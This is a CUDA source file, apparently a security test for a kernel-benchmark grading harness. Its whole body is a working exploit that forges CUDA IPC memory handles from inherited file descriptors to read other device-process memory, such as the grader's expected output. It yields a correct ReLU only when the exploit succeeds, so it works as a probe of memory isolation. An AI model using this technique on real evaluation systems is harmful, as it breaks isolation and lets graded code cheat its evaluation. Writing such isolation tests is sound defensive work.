// Counts the addresses in the IPC handles it was given up and down, to map other memory of the device process, such as
// the expected output; it is right only if it gets at some. Nothing else is ever exported, and what is not is refused.
// If the driver maps something that cannot be read, the attack ends its own context instead.
#include <cuda_runtime.h>
#include <kernelbench/kernel.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstring>
#include <vector>

static __global__ void Relu(const float* x, float* y, int64_t n) {
  const int64_t i = int64_t{blockIdx.x} * blockDim.x + threadIdx.x;
  if (i < n) y[i] = x[i] <= 0 ? 0.0f : x[i];
}

static void Launch(const float* x, float* y, int64_t n, cudaStream_t stream) {
  Relu<<<static_cast<unsigned>((n + 255) / 256), 256, 0, stream>>>(x, y, n);
}

static int64_t Count(const kb_tensor& tensor) {
  int64_t n = 1;
  for (int d = 0; d < tensor.ndim; ++d) n *= tensor.shape[d];
  return n;
}

using Words = std::vector<uint32_t>;

static std::vector<cudaIpcMemHandle_t> GivenHandles() {
  std::vector<cudaIpcMemHandle_t> handles;
  for (int fd = 3; fd < 256; ++fd) {
    struct stat info {};
    cudaIpcMemHandle_t handle;
    if (fstat(fd, &info) != 0 || !S_ISREG(info.st_mode) || info.st_size != sizeof handle) continue;
    if (pread(fd, &handle, sizeof handle, 0) == sizeof handle) handles.push_back(handle);
  }
  return handles;
}

// The beginning of the memory behind a handle; empty if it is refused.
static Words Beginning(const cudaIpcMemHandle_t& handle) {
  void* memory = nullptr;
  Words words(1024);
  const bool read = cudaIpcOpenMemHandle(&memory, handle, cudaIpcMemLazyEnablePeerAccess) == cudaSuccess &&
                    cudaMemcpy(words.data(), memory, words.size() * 4, cudaMemcpyDeviceToHost) == cudaSuccess;
  cudaGetLastError();
  return read ? words : Words();
}

static Words Beginning(const float* memory) {
  Words words(1024);
  cudaMemcpy(words.data(), memory, words.size() * 4, cudaMemcpyDeviceToHost);
  return words;
}

static bool Attack(const kb_call* call) {
  const std::vector<cudaIpcMemHandle_t> given = GivenHandles();
  std::vector<Words> known = {Words(), Words(1024, 0), Beginning(static_cast<const float*>(call->inputs[0].data)),
                              Beginning(static_cast<const float*>(call->outputs[0].data))};
  for (const cudaIpcMemHandle_t& handle : given) known.push_back(Beginning(handle));
  for (const cudaIpcMemHandle_t& handle : given) {
    for (int step = -256; step <= 256; ++step) {  // of 2 MiB
      cudaIpcMemHandle_t made = handle;
      uint32_t address = 0;
      std::memcpy(&address, made.reserved + 52, sizeof address);
      address += static_cast<uint32_t>(step);
      std::memcpy(made.reserved + 52, &address, sizeof address);
      const Words words = Beginning(made);
      bool is_known = false;
      for (const Words& other : known) is_known = is_known || words == other;
      if (!is_known) return true;
    }
  }
  return false;
}

KB_EXPORT int kb_forward(const kb_call* call) {
  const auto* x = static_cast<const float*>(call->inputs[0].data);
  auto* y = static_cast<float*>(call->outputs[0].data);
  const int64_t n = Count(call->inputs[0]);
  const auto stream = static_cast<cudaStream_t>(call->stream);
  static const bool won = Attack(call);
  if (won) {  // right only where the attack works
    Launch(x, y, n, stream);
  } else {
    cudaMemsetAsync(y, 0, static_cast<size_t>(n) * sizeof(float), stream);
  }
  return static_cast<int>(cudaGetLastError());
}
